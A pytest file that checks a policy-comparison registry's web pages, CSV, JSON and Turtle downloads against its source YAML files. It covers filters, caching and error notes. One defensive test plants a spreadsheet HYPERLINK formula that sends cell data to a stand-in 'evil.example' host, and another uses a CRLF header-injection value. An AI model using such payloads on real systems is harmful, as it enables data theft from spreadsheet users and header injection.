"""The comparison is true: page, downloads and queries say what the YAML files say, which this test reads for itself.

That every collected fact stands in those files is the matter of tests/data/test_facts.py.
"""

import csv
import io
import json
import re
from collections import Counter
from datetime import date
from html import unescape
from itertools import product
from xml.etree import ElementTree

import pytest
import yaml
from pyoxigraph import Literal, RdfFormat, parse

from registry.model import Source
from registry.readmodel.catalogue import Catalogue
from registry.store.embedded import EmbeddedStore
from registry.store.protocol import select
from registry.store.sparql_text import bind, insert_data
from registry.web.app import create_app
from registry.web.pictures.cell_looks import LOOKS
from tests.support import merged
from tests.support.merged import AT, COMPILED, LISTED, SETTINGS, fill
from tests.support.page import Cells, Page
from tests.support.places import ROOT
from tests.support.section_nine import CELLS, bound, cell, on_day
from tests.support.sites import caught_up

SVG = "{http://www.w3.org/2000/svg}"
FOLDER = ROOT / "registry" / "data" / "sources"
CONTRACT = (
    "country,level,issuer,office,activity,stage,coverage,force,status,policy,policy_url,issued,layer,source".split(",")
)
RULED = [*CONTRACT, *"instrument,duty,condition,reach,binds,checked,in_force_from,in_force_until".split(",")]
PLACES = {"EL": "GR"}
# What a policy says for those of its statements that do not say it.
INHERITED = "status in_force_from in_force_until binds evidence accessed checked".split()
# A chosen value of a filter → the scope that may head a row, too, since somebody asks for it.
WIDE = {
    ("level", "regional"): "region",
    ("level", "local"): "local",
    ("level", "association"): "association",
    ("binds", "own-organisation"): "body",
    ("binds", "association-members"): "association",
    ("binds", "regional"): "region",
    ("binds", "local"): "local",
    ("binds", "suppliers"): "suppliers",
}


# What the files say, read without any of our code.


def several(value):
    return value if isinstance(value, list) else [value]


def english(value):
    """Return a text: in English if there is one, else in the language it is given in."""
    if isinstance(value, str):
        return value
    assert "en" in value or len(value) == 1, value
    return value.get("en") or next(iter(value.values()))


def in_file(name, document):
    """Yield the statements of a file as rows of the comparison; an office stands for its home page."""
    alone = [(policy, {}) for policy in document.get("policies", [])]
    issued = [(policy, office) for office in document.get("offices", []) for policy in office.get("policies", [])]
    for policy, office in alone + issued:
        issuer = policy.get("issuer", office.get("name", ""))
        whole = {
            "country": policy["country"],
            "level": policy.get("level", ""),
            "issuer": english(issuer.get("name", issuer) if isinstance(issuer, dict) else issuer),
            "office": office.get("url", ""),
            "policy": english(policy["title"]),
            "policy_url": policy.get("url", ""),
            "issued": policy.get("issued", ""),
            "layer": "compiled",
            "source": f"{SETTINGS.base}/sources/{name}",
        }
        for activity, stages in policy.get("matrix", {}).items():
            for stage, inside in stages.items():
                for one in several(inside):
                    stated = {"coverage": one} if isinstance(one, str) else {"coverage": "stated", **one}
                    yield whole | {"activity": activity, "stage": stage} | in_cell(policy, stated)


def in_cell(policy, stated):
    """Return what a row has of its own: what a statement says, or else its policy for all of its statements."""
    told = {name: policy[name] for name in INHERITED if name in policy} | stated
    named = [each if isinstance(each, str) else each["page"] for each in several(told.get("evidence", []))]
    return {
        "coverage": told["coverage"],
        "status": told.get("status", "unknown"),
        **{name: told.get(name, "") for name in ("force", "duty", "condition", "checked", "accessed")},
        **{name: told.get(name, "") for name in ("in_force_from", "in_force_until")},
        "issued": stated.get("issued") or policy.get("issued", ""),
        "instrument": policy.get("instrument", ""),
        "reach": told.get("reach", "general"),
        "text": english(told.get("text", "")),
        "binds": " ".join(sorted(several(told.get("binds", [])))),
        "evidence": " ".join(sorted(named)),
    }


def compared(documents):
    """Return the statements of these files, and all countries that they tell of."""
    statements = [row for name, document in documents.items() for row in in_file(name, document)]
    described = [
        thing
        for document in documents.values()
        for thing in (*document.get("policies", []), *document.get("offices", []))
    ]
    return statements, {PLACES.get(thing["country"], thing["country"]) for thing in described}


def row_of(item):
    """Return the row of a statement: its country, or its issuer where that is an international body."""
    return item["issuer"].partition(" (")[0] if item["country"] == "INT" else item["country"]


def place_of(item):
    return row_of(item), item["activity"], item["stage"]


def passes(item, wanted, today):
    """Return whether a statement meets all filters: on a day it must have begun."""
    if "on" in wanted and on_day(item, wanted["on"], today) == "not-yet":
        return False
    return all(values & {*item[name].split(" ")} for name, values in wanted.items() if name != "on")


def chosen(documents, wanted, today):
    """Return the statements and the rows (name → country) that filters leave, and whether rows may be left out."""
    statements, countries = compared(documents)
    kept = [item for item in statements if passes(item, wanted, today)]
    alive = {row_of(item) for item in kept}
    known = {code: code for code in countries - {"INT"}}
    known |= {row_of(item): "INT" for item in statements if item["country"] == "INT"}
    is_narrowed = bool(set(wanted) - {"country", "activity", "stage", "on"})
    rows = [
        name
        for name, code in known.items()
        if code in wanted.get("country", {code}) and (name in alive or not is_narrowed)
    ]
    return kept, {name: known[name] for name in rows}, is_narrowed


def with_empty_cells(documents, wanted, today):
    """Return the rows of the downloads: what is left, and each cell of which nobody says anything."""
    kept, rows, is_narrowed = chosen(documents, wanted, today)
    begun = [it for it in compared(documents)[0] if "on" not in wanted or on_day(it, wanted["on"], today) != "not-yet"]
    filled = {place_of(item) for item in begun}
    empty = [
        {"country": code, "activity": activity, "stage": stage, "coverage": "not-assessed"}
        | ({"issuer": name} if code == "INT" else {})
        for name, code in rows.items()
        for activity, stage in cells_left(wanted)
        if (name, activity, stage) not in filled and not is_narrowed
    ]
    return kept + empty


def cells_left(wanted):
    return [
        (activity, stage)
        for activity, stage in CELLS
        if activity in wanted.get("activity", {activity}) and stage in wanted.get("stage", {stage})
    ]


def asked_scopes(wanted):
    found = {
        WIDE[name, value] for name in ("level", "binds") for value in wanted.get(name, ()) if (name, value) in WIDE
    }
    return {*WIDE.values(), "unstated"} if "office" in wanted else found


def cells_shown(documents, wanted, today):
    """Return (row, activity, stage) → what the page shows there, by the rule that the tests have for themselves."""
    kept, rows, _ = chosen(documents, wanted, today)
    statements, found = compared(documents)[0], {}
    for name, (activity, stage) in product(rows, cells_left(wanted)):
        own, all_of_it = (
            [item for item in some if place_of(item) == (name, activity, stage)] for some in (kept, statements)
        )
        shown = cell(own, wanted.get("on", ""), today, asked_scopes(wanted))
        count, is_read = int(shown.get("head_count", "1")), shown.get("head_sure") != "text-not-read"
        asked = [item for item in all_of_it if passes(item, {k: v for k, v in wanted.items() if k != "on"}, today)]
        key = "no-match" if all_of_it and not asked else shown["head"]
        found[name, activity, stage] = key, count if count > 1 else None, is_read
    return found


# What is served.


@pytest.fixture(scope="module")
def bundled():
    """The bundled files as text alone, and the site on a store filled from them by the real path."""
    sources = merged.bundled()
    store = fill(EmbeddedStore(), sources)
    texts = {name: body.decode() for name, (_, body) in sources.items()}
    return Site({name: yaml.load(text, yaml.BaseLoader) for name, text in texts.items()}, store)


@pytest.fixture(scope="module")
def small():
    """The same for a store in which cells are silent, excluded and not assessed too."""
    documents = {"bundled-fr": yaml.load(COMPILED, yaml.BaseLoader)}
    offices = yaml.load(LISTED, yaml.BaseLoader).items()
    documents["list"] = {"offices": [{"url": url, **office} for url, office in offices]}
    return Site(documents, fill(EmbeddedStore()))


class Site:
    """Files, the store filled from them, and what the site answers; an office is shown as its home page."""

    def __init__(self, documents, store, app=None):
        self.documents, self.store = documents, store
        app = app or create_app(SETTINGS, store)
        self.client, self.today = app.test_client(), app.config["CATALOGUE"].today()
        self.pages = {row["office"].value: row["page"].value for row in self.select(OFFICES)}
        self.names = {page: iri.rpartition("/")[2] for iri, page in self.pages.items()}

    def select(self, text):
        return select(self.store, bind(PREFIXES + text, merged=f"{SETTINGS.base}/merged"))

    def get(self, path, **headers):
        response = self.client.get(path, headers={"Accept-Language": "en", **headers})
        assert response.status_code == 200, path
        return response

    def plain(self, row):
        office = self.pages[f"{SETTINGS.base}/id/office/{row['office']}"] if row.get("office") else ""
        return row | {"office": office}

    def csv(self, query=""):
        text = self.get(f"/compare.csv?{query}").text
        return [self.plain(row) for row in csv.DictReader(io.StringIO(text, newline=""))]

    def cells(self, query=""):
        return list(csv.DictReader(io.StringIO(self.get(f"/compare-cells.csv?{query}").text, newline="")))

    def json(self, query=""):
        return [self.plain(row) for row in self.get(f"/compare.json?{query}").get_json()["rows"]]

    def page(self, query=""):
        """Return (row, activity, stage) → what the page shows: a key, how many statements, and if the text was read."""
        found = Cells(self.get(f"/compare?empty=1&{query}", Accept="text/html").text)
        assert found.open == 0
        return {
            place: (key_of(classes), counted(name), "unread" not in classes)
            for place, (classes, name) in found.cells.items()
        }


def key_of(classes):
    return re.search(r"\bf-(\S+)", classes)[1]


def counted(name):
    count = re.search(r"(\d+) statements", name)
    return int(count[1]) if count else None


PREFIXES = "".join(
    f"PREFIX {prefix}: <{iri}>\n"
    for prefix, iri in {
        "ospo": "https://w3id.org/ospo/ns#",
        "dcterms": "http://purl.org/dc/terms/",
        "foaf": "http://xmlns.com/foaf/0.1/",
    }.items()
)
OFFICES = "SELECT ?office ?page WHERE { GRAPH $merged { ?office a ospo:Office ; foaf:homepage ?page } }"
STATEMENTS = "SELECT ?statement WHERE { GRAPH $merged { ?statement a ospo:PolicyStatement } }"
RETITLE = """WITH $merged DELETE { ?policy dcterms:title ?old } INSERT { ?policy dcterms:title $title }
WHERE { ?policy a ospo:FlossPolicy ; dcterms:title ?old }"""
QUERY = """SELECT ?statement ?country ?level ?issuer ?office ?activity ?stage ?coverage ?force ?status
  ?policy ?policy_url ?issued ?layer ?source
WHERE { GRAPH $merged {
  ?statement a ospo:PolicyStatement ; dcterms:isPartOf ?it ; dcterms:source ?source ; ospo:countryCode ?country ;
    ospo:activity ?activity ; ospo:stage ?stage ; ospo:coverage ?coverage ; ospo:status ?status ;
    ospo:assessmentKind ?layer .
  ?it a ospo:FlossPolicy ; dcterms:title ?policy .
  OPTIONAL { ?statement ospo:force ?force } OPTIONAL { ?it ospo:level ?level }
  OPTIONAL { ?it ospo:issuerName ?issuer } OPTIONAL { ?it foaf:page ?policy_url }
  OPTIONAL { ?it dcterms:issued ?of_policy } OPTIONAL { ?statement dcterms:issued ?own }
  BIND(COALESCE(?own, ?of_policy) AS ?issued) OPTIONAL { ?it ospo:office/foaf:homepage ?office }
} }"""
CODES = {"activity", "stage", "coverage", "force", "status", "level", "layer"}


def coded(name, value):
    """Return a term as the comparison writes it: a concept by its code."""
    prefix = f"https://w3id.org/ospo/concept/{'assessment-kind' if name == 'layer' else name}/"
    assert name not in CODES or value.value.startswith(prefix), (name, value)
    return value.value.removeprefix(prefix)


def multiset(rows, columns):
    return Counter(tuple(row.get(name, "") for name in columns) for row in rows)


# Query string → the filters it stands for; an office is named by its home page.
FILTERS = {
    "": {},
    "country=FR": {"country": {"FR"}},
    "country=FR&country=de&country=UK": {"country": {"FR", "DE", "GB"}},
    "country=EL&activity=use": {"country": {"GR"}, "activity": {"use"}},
    "country=AQ": {"country": {"AQ"}},
    "activity=use&activity=produce&stage=present": {"activity": {"use", "produce"}, "stage": {"present"}},
    "stage=promote&force=informational&force=encouraged": {
        "stage": {"promote"},
        "force": {"informational", "encouraged"},
    },
    "force=required": {"force": {"required"}},
    "force=required&activity=produce&stage=present&status=in-force": {
        "force": {"required"},
        "activity": {"produce"},
        "stage": {"present"},
        "status": {"in-force"},
    },
    "status=expired&status=failed": {"status": {"expired", "failed"}},
    "level=local&level=regional&country=FR": {"level": {"local", "regional"}, "country": {"FR"}},
    "layer=compiled": {"layer": {"compiled"}},
    "layer=imported&layer=self-declared": {"layer": {"imported", "self-declared"}},
    "office={https://code.gouv.fr}": {"office": {"https://code.gouv.fr"}},
    "office={https://code.gouv.fr}&office={https://www.echirolles.fr/territoire-numerique}&activity=use": {
        "office": {"https://code.gouv.fr", "https://www.echirolles.fr/territoire-numerique"},
        "activity": {"use"},
    },
    "duty=publish-code&duty=prefer-open-source": {"duty": {"publish-code", "prefer-open-source"}},
    "reach=field": {"reach": {"field"}},
    "checked=secondary&reach=general": {"checked": {"secondary"}, "reach": {"general"}},
    "binds=own-organisation&binds=regional": {"binds": {"own-organisation", "regional"}},
    "binds=suppliers": {"binds": {"suppliers"}},
    "country=INT": {"country": {"INT"}},
    "on=1990-01-01": {"on": "1990-01-01"},
    "on=2016-10-07": {"on": "2016-10-07"},
    "on=2020-06-30&activity=use": {"on": "2020-06-30", "activity": {"use"}},
    "on=2024-03-20&country=EU&country=DE": {"on": "2024-03-20", "country": {"EU", "DE"}},
    "on=2025-01-31&level=regional": {"on": "2025-01-31", "level": {"regional"}},
    "force=&office=": {},
}


def asked(site, query):
    return re.sub(r"\{(.+?)\}", lambda match: site.names.get(match[1], "nobody"), query)


def queried(store, text=QUERY):
    """Return the rows of the query, one a statement: with an English title where there are several."""
    rows = select(store, bind(PREFIXES + text, merged=f"{SETTINGS.base}/merged"))
    rows.sort(key=lambda row: row["policy"].language == "en")
    named = {row["statement"].value: row for row in rows}.values()
    return [{name: coded(name, row[name]) if name in row else "" for name in CONTRACT} for row in named]


@pytest.fixture(params=["bundled", "small"])
def site(request):
    return request.getfixturevalue(request.param)


def test_all_statements_of_the_bundled_sources_are_compared(bundled):
    statements, countries = compared(bundled.documents)
    assert len(statements) >= 372
    assert len(countries) == len(bundled.documents) == len(list(FOLDER.glob("*.yaml")))
    stated = [row for row in statements if row["coverage"] == "stated"]
    assert len([row for row in bundled.csv() if row["coverage"] == "stated"]) == len(stated)
    assert len(bundled.pages) == sum(len(document.get("offices", [])) for document in bundled.documents.values())


@pytest.mark.parametrize("query", FILTERS)
def test_csv_and_json_say_what_the_files_say(site, query):
    expected = with_empty_cells(site.documents, FILTERS[query], site.today)
    assert multiset(site.csv(asked(site, query)), RULED) == multiset(expected, RULED)
    assert multiset(site.json(asked(site, query)), RULED) == multiset(expected, RULED)


@pytest.mark.parametrize("query", FILTERS)
def test_the_cells_of_the_page_show_and_count_what_the_files_say(site, query):
    expected = cells_shown(site.documents, FILTERS[query], site.today)
    assert site.page(asked(site, query)) == expected


@pytest.mark.parametrize("query", FILTERS)
def test_turtle_says_what_the_files_say(site, query):
    triples = [quad.triple for quad in parse(site.get(f"/compare.ttl?{asked(site, query)}").data, RdfFormat.TURTLE)]
    assert len(triples) == len(set(triples))
    store = EmbeddedStore()
    store.update(insert_data(f"{SETTINGS.base}/merged", triples))
    # The descriptions of offices are not part of it, only their names are.
    found = queried(store, QUERY.replace("ospo:office/foaf:homepage", "ospo:office"))
    found = [row | {"office": site.pages.get(row["office"], "")} for row in found]
    expected, *_ = chosen(site.documents, FILTERS[query], site.today)
    assert multiset(found, CONTRACT) == multiset(expected, CONTRACT)


def test_a_query_on_the_merged_graph_finds_what_the_files_say(site):
    assert multiset(queried(site.store), CONTRACT) == multiset(compared(site.documents)[0], CONTRACT)


def test_each_row_keeps_its_words_its_evidence_and_how_well_it_was_checked(site):
    columns = ("country", "activity", "stage", "policy", "text", "evidence", "checked", "accessed")
    rows = [row | {"evidence": " ".join(sorted(row["evidence"].split()))} for row in site.json() if row["policy"]]
    assert multiset(rows, columns) == multiset(compared(site.documents)[0], columns)


def test_each_row_names_a_statement_that_the_merged_graph_has_and_when_it_was_read(site):
    rows = [row for row in site.json() if row["policy"]]
    known = [row["statement"].value for row in site.select(STATEMENTS)]
    assert sorted(row["statement"] for row in rows) == sorted(known)
    assert {row["fetched"] for row in rows} == {AT.isoformat()}


def test_the_downloads_have_the_countries_in_the_order_of_the_page(site):
    order = list(dict.fromkeys(row for row, _, _ in site.page()))
    assert list(dict.fromkeys(map(row_of, site.csv()))) == order
    assert list(dict.fromkeys(map(row_of, site.json()))) == order
    assert list(dict.fromkeys(row["body"] or row["country"] for row in site.cells())) == order


def test_json_says_what_was_asked_on_which_day_and_under_which_licences(bundled):
    found = bundled.get("/compare.json?force=required&country=UK&country=FR&on=2020").get_json()
    assert found["filters"] == {"country": ["FR", "GB"], "force": ["required"]}
    assert (found["days"], found["today"]) == ({"on": "2020"}, bundled.today)
    assert found["address"] == f"{SETTINGS.base}/compare.json?force=required&country=UK&country=FR&on=2020"
    assert found["licences"].keys() == bundled.documents.keys()
    assert found["revision"] == bundled.client.get("/-/health").get_json()["revision"] > 0


# What is asked for → what is said of it.
NOT_KNOWN = {
    "force=strong": "force=strong is not known: choose one of comply-or-explain, ",
    "duty=publish": "duty=publish is not known: choose one of allocate-resources, ",
    "reach=all": "reach=all is not known: choose one of field, general",
    "country=Narnia": "country=Narnia is not known: choose one of ",
    "on=yesterday": "on=yesterday is not a date: write it as 2024-01-31, 2024-01 or 2024",
    "from=2020-02-30": "from=2020-02-30 is not a date: ",
    "rows=towns": "rows=towns is not known: choose one of countries, offices",
    "layout=cube": "layout=cube is not known: choose one of matrix, side, statements",
    "contry=FR": "contry is no parameter",
    "scope=all": "scope is no parameter",
}


@pytest.mark.parametrize("path", ["/compare.csv", "/compare-cells.csv", "/compare.json", "/compare.ttl"])
@pytest.mark.parametrize("query", NOT_KNOWN)
def test_a_file_of_what_is_not_known_is_a_problem_that_says_so(small, path, query):
    response = small.client.get(f"{path}?activity=use&{query}")
    assert (response.status_code, response.content_type) == (400, "application/problem+json")
    problem = json.loads(response.text)
    assert (problem["type"], problem["title"], problem["status"]) == ("about:blank", "Bad Request", 400)
    assert problem["detail"].startswith(NOT_KNOWN[query])


@pytest.mark.parametrize("path", ["/compare", "/map"])
@pytest.mark.parametrize("query", NOT_KNOWN)
def test_a_page_of_what_is_not_known_says_so_in_a_note(small, path, query):
    (note,) = Page(small.get(f"{path}?activity=use&{query}", Accept="text/html").text).all("p", **{"class": "note"})
    name = query.partition("=")[0]
    is_known = path == "/compare" or name not in ("rows", "layout")
    assert note[2].startswith(NOT_KNOWN[query] if is_known else f"{name} is no parameter of this page")


@pytest.mark.parametrize(
    ("name", "near"), [("contry", "country"), ("forces", "force"), ("dutys", "duty"), ("in", "binds")]
)
def test_a_note_names_the_nearest_of_the_parameters_that_are_known(small, name, near):
    problem = json.loads(small.client.get(f"/compare.json?{name}=x").text)
    page = Page(small.get(f"/compare?{name}=x", Accept="text/html").text)
    for said in (problem["detail"], page.all("p", **{"class": "note"})[0][2]):
        assert f"did you mean {near}?" in said
        assert all(known in said for known in ("country", "force", "duty", "reach", "on", "layout", "lang"))


def test_all_that_is_not_known_is_said_at_once(small):
    detail = json.loads(small.client.get("/compare.csv?force=strong&colour=red&on=now").text)["detail"]
    assert [part.partition(" ")[0] for part in detail.split("; ")] == ["force=strong", "on=now", "colour"]


STATES = {  # address → the day of its law, and the scopes that it asks for
    "": ("", ()),
    "on=1990-01-01": ("1990-01-01", ()),
    "on=2016-10-07": ("2016-10-07", ()),
    "on=2020": ("2020-01-01", ()),
    "on=2023-02&activity=produce": ("2023-02-01", ()),
    "on=2024-07-24": ("2024-07-24", ()),
    "on=2035-12-31": ("2035-12-31", ()),
    "level=regional": ("", ("region",)),
    "binds=own-organisation&binds=local&on=2025-01-01": ("2025-01-01", ("body", "local")),
    "force=required&force=considered": ("", ()),
}


@pytest.mark.parametrize("query", STATES)
def test_section_nine_over_the_statements_of_a_file_gives_the_heads_of_the_other(site, query):
    (day, asked_for), told = STATES[query], {}
    statements, said_at_all = site.csv(query), {place_of(item) for item in site.csv() if item["statement"]}
    but_day = "&".join(part for part in query.split("&") if not part.startswith("on="))
    asked = {place_of(item) for item in site.csv(but_day) if item["statement"]}
    for item in statements:
        if item["statement"]:
            told.setdefault(place_of(item), []).append(item)
    for shown in site.cells(query):
        place = shown["body"] or shown["country"], shown["activity"], shown["stage"]
        said = told.pop(place, [])
        is_narrowed_out = place in said_at_all and place not in asked
        expected = {"head": "no-match"} if is_narrowed_out else cell(said, day, site.today, asked_for)
        heads = [item for item in said if item["statement"] == expected.get("head_statement")]
        title, tongue = next(((item["policy"], item["policy_language"]) for item in heads), ("", ""))
        expected |= {"head_policy": title, "head_policy_language": tongue, "statements": str(len(said))}
        named = {name: shown[name] for name in shown if name not in ("country", "body", "office", "activity", "stage")}
        usual = {name: "0" if name.startswith("apart_") else "" for name in named}
        assert named == usual | expected
    assert told == {}
    for item in statements:
        if item["statement"]:
            assert item["state_on_day"] == on_day(item, day or site.today, site.today)
            assert item["binds_assumed"] == ("yes" if bound(item) == "assumed" else "")


@pytest.mark.parametrize("query", STATES)
def test_page_files_pictures_and_map_of_one_address_show_the_same_heads(site, query):
    cells, glyphs = site.cells(query), {look.glyph: key for key, look in LOOKS.items()}
    bodies = {it["body"] for it in cells} - {""}
    heads = heads_of(cells)
    assert site.get(f"/compare.json?{query}").get_json()["cells"] == cells
    assert {place: key for place, (key, *_) in site.page(query).items()} == heads
    drawn = ElementTree.fromstring(site.get(f"/compare.svg?{query}").data)
    groups = [group for group in drawn.iter(f"{SVG}g") if group.find(f"{SVG}title") is not None]
    signs = [group.find(f"{SVG}text/{SVG}tspan").text for group in groups]
    assert [glyphs[sign] for sign in signs] == list(heads.values())
    first = list(dict.fromkeys(row for row, *_ in heads))[:5]
    beside = {place: key for place, (key, *_) in site.page(f"{query}&layout=side").items()}
    assert beside == {place: key for place, key in heads.items() if place[0] in first}
    for stage in dict.fromkeys(stage for *_, stage in heads):
        html = site.get(f"/map?{query}&stage={stage}", Accept="text/html").text
        own = heads_of(site.cells(f"{query}&stage={stage}"))
        tiles, words = in_tiles(html), in_words(html, dict.fromkeys(activity for _, activity, _ in own), stage)
        assert words == own
        assert {place: tiles.get(place, key) for place, key in own.items()} == own
        assert {place for place in own if place not in tiles} == {it for it in own if it[0] in bodies}


def heads_of(cells):
    """Return (row, activity, stage) → what heads it, from the rows of /compare-cells.csv."""
    return {(it["body"] or it["country"], it["activity"], it["stage"]): it["head"] for it in cells}


def in_tiles(html):
    """Return what the tiles of a map show: (country, activity, stage) → key."""
    tiles = re.findall(r'class="tile f-([^" ]+)[^"]*" href="/countries/(\w+)#(\w+)-(\w+)"', html)
    return {place: key for key, *place in tiles for place in [tuple(place)]}


def in_words(html, activities, stage):
    """Return the same from the table below the map; an international body is called by its name."""
    lines = re.findall(r'<tr><th scope="row"><a href="/countries/([^"]+)"><bdi>(.*?)</bdi>(.*?)</tr>', html)
    return {
        (unescape(name) if "/" in code else code, activity, stage): key
        for code, name, rest in lines
        for activity, key in zip(activities, re.findall(r'class="tile f-([^" ]+)', rest), strict=True)
    }


def test_nothing_that_began_later_and_nothing_undated_holds_on_a_day_of_the_past(site):
    found = [item for item in site.csv("on=1990-01-01") if item["statement"]]
    later = [item for item in found if min(filter(None, (item["issued"], item["in_force_from"])), default="") > "1990"]
    undated = [item for item in found if not item["issued"] and not item["in_force_from"]]
    assert later == []
    assert {item["state_on_day"] for item in undated} <= {"unknown", "proposed", "failed"}
    assert {item["state_on_day"] for item in found} & {"not-yet", "holds"} == set()
    assert {it["head"] for it in site.cells("on=1990-01-01")} <= {"nothing", "no-match", "not-assessed"}
    assert len(undated) == len([it for it in site.csv() if it["statement"] and not it["issued"] + it["in_force_from"]])


def test_another_day_makes_pages_and_files_anew():
    days, filled = [date(2023, 6, 30)], fill(EmbeddedStore())
    app = create_app(SETTINGS, filled)
    app.config["CATALOGUE"] = Catalogue(filled, SETTINGS.base, lambda: days[0])
    site = Site({}, filled, app)
    paths = ("/compare", "/compare-cells.csv", "/compare.json", "/compare.svg", "/countries/DE", "/map", "/countries")
    before = {path: site.get(path) for path in paths}
    germany = ("DE", "use", "prioritize")
    assert site.page()[germany][0] == "not-assessed"
    days[0] = date(2026, 11, 30)
    after = {path: site.get(path) for path in paths}
    assert [path for path in paths if after[path].headers["ETag"] == before[path].headers["ETag"]] == []
    assert site.page()[germany][0] == "preferred"
    assert site.get("/compare.json").get_json()["today"] == "2026-11-30"
    for path in paths:
        again = site.client.get(path, headers={"If-None-Match": before[path].headers["ETag"], "Accept-Language": "en"})
        assert (again.status_code, again.data) == (200, after[path].data)


def test_csv_keeps_to_rfc_4180(site):
    response = site.get("/compare.csv")
    assert response.content_type == "text/csv; charset=utf-8; header=present"
    bare = re.sub(r'"(?:[^"]|"")*"', "", response.text)
    assert '"' not in bare
    lines = bare.split("\r\n")
    assert lines.pop() == ""
    assert {line.count(",") for line in lines} == {lines[0].count(",")}
    assert "\r" not in "".join(lines)
    assert "\n" not in "".join(lines)
    assert lines[0].split(",")[: len(CONTRACT)] == CONTRACT


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_nothing_in_csv_is_a_formula_and_json_has_it_as_it_was_said(start):
    title = f"{start}HYPERLINK(\"https://evil.example/?\"&A1,'x')\r\n{start}1"
    store = fill(EmbeddedStore())
    store.update(bind(PREFIXES + RETITLE, merged=f"{SETTINGS.base}/merged", title=Literal(title)))
    site = Site({}, store)
    titles = {row["policy"] for row in site.csv() if row["policy"]}
    assert titles == {f"'{title}"}
    assert {row["policy"] for row in site.json() if row["policy"]} == {title}
    assert [value for row in site.csv() for value in row.values() if value.startswith(start)] == []


@pytest.mark.parametrize("suffix", ["csv", "json", "ttl"])
def test_a_download_is_sent_again_only_when_it_has_changed(suffix):
    store = fill(EmbeddedStore())
    client = create_app(SETTINGS, store).test_client()
    path = f"/compare.{suffix}?activity=use"
    first = client.get(path)
    tag = first.headers["ETag"]
    assert not tag.startswith("W/")
    for known in (tag, f'"other", {tag}', f"W/{tag}", "*"):
        again = client.get(path, headers={"If-None-Match": known})
        assert (again.status_code, again.data, again.headers["ETag"]) == (304, b"", tag)
        assert {"Accept", "Accept-Language"} <= set(again.vary)
    assert client.get(path, headers={"If-None-Match": '"other"'}).data == first.data
    assert client.get(f"/compare.{suffix}", headers={"If-None-Match": tag}).status_code == 200
    source = Source("new", "https://new.example/ospo.yaml")
    fill(store, {"new": (source, COMPILED.replace(b"fr-old", b"fr-new"))})
    caught_up(client)
    changed = client.get(path, headers={"If-None-Match": tag})
    assert changed.status_code == 200
    assert changed.headers["ETag"] != tag


def test_csv_is_saved_under_a_name_also_when_it_comes_from_the_cache(small):
    for _ in range(2):
        response = small.get("/compare.csv?office=%0d%0aX-Evil:1")
        assert response.headers["Content-Disposition"] == 'attachment; filename="ospo-atlas-comparison.csv"'
        assert {"Accept", "Accept-Language"} <= set(response.vary)
    assert small.client.head("/compare.csv").headers["Content-Disposition"].startswith("attachment")
